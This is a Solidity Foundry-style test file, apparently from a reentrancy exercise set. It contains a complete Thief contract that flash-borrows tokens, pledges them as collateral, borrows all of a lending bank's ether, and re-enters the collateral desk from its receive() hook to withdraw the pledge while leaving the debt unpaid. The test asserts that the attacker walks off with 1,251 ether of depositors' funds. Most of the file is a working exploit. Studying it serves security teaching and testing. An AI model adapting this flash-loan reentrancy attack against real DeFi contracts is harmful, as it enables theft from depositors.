// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Feed, FlashLender, Token} from "../reentrancy/src/Imports.sol";
import {EtherBank} from "../reentrancy/src/EtherBank.sol";
import {IDebts, WoolDesk} from "../reentrancy/src/WoolDesk.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address) external;
    function deal(address, uint256) external;
}

contract Thief is IFlashBorrower {
    Token private immutable wool;
    WoolDesk private immutable desk;
    EtherBank private immutable bank;

    constructor(Token wool_, WoolDesk desk_, EtherBank bank_) {
        (wool, desk, bank) = (wool_, desk_, bank_);
        wool.approve(address(desk_), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount) external {
        lender.flashLoan(this, address(wool), amount, "");
        wool.transfer(msg.sender, wool.balanceOf(address(this)));
        (bool success,) = msg.sender.call{value: address(this).balance}("");
        require(success);
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        desk.pledge(wool.balanceOf(address(this)));
        bank.borrow(bank.idle());
        wool.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    receive() external payable {
        desk.release(desk.pledgeOf(address(this)));
    }
}

contract ReentrancyTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant CAROL = address(0xCA401);
    address constant ATTACKER = address(0xBAD);
    uint256 constant OWN_WOOL = 4_500 ether;

    Token wool;
    WoolDesk desk;
    EtherBank bank;
    FlashLender lender;

    function setUp() public {
        wool = new Token("Wool", "WOOL");
        desk = new WoolDesk(wool, new Feed(18, 0.0004 ether, address(this)));
        bank = new EtherBank{value: 1 ether}(desk);
        desk.bind(IDebts(address(bank)));
        lender = new FlashLender(5);
        wool.mint(CAROL, 900_000 ether);
        wool.mint(ATTACKER, 9_000 ether);
        wool.mint(address(lender), 8_000_000 ether);
        vm.deal(ALICE, 1_500 ether);
        vm.deal(BOB, 1_000 ether);
        vm.deal(CAROL, 1_000 ether);
        vm.deal(ATTACKER, 10 ether);
        vm.prank(ALICE);
        bank.save{value: 900 ether}();
        vm.prank(BOB);
        bank.save{value: 450 ether}();
        vm.prank(CAROL);
        wool.approve(address(desk), 1e60);
        vm.prank(CAROL);
        desk.pledge(600_000 ether);
        vm.prank(CAROL);
        bank.borrow(120 ether);
        vm.prank(CAROL);
        bank.payBack{value: 20 ether}(CAROL);
    }

    function test_attack_pays() public {
        uint256 loot = bank.idle();
        assert(loot == 1_251 ether);
        Thief thief = new Thief(wool, desk, bank);
        vm.prank(ATTACKER);
        wool.transfer(address(thief), OWN_WOOL);
        // Collateral for the loot and its fee, less what is the attacker's own.
        uint256 needed = (loot + loot * 25 / 10_000) * 100 / 70 * 1e18 / 0.0004 ether + 1e6;
        uint256 amount = needed - OWN_WOOL;
        vm.prank(ATTACKER);
        thief.attack(lender, amount);
        assert(ATTACKER.balance == 10 ether + loot);
        assert(wool.balanceOf(ATTACKER) == 9_000 ether - (amount * 5 + 9_999) / 10_000);
        assert(desk.pledgeOf(address(thief)) == 0 && bank.owedBy(address(thief)) > loot && bank.idle() == 0);
    }
}
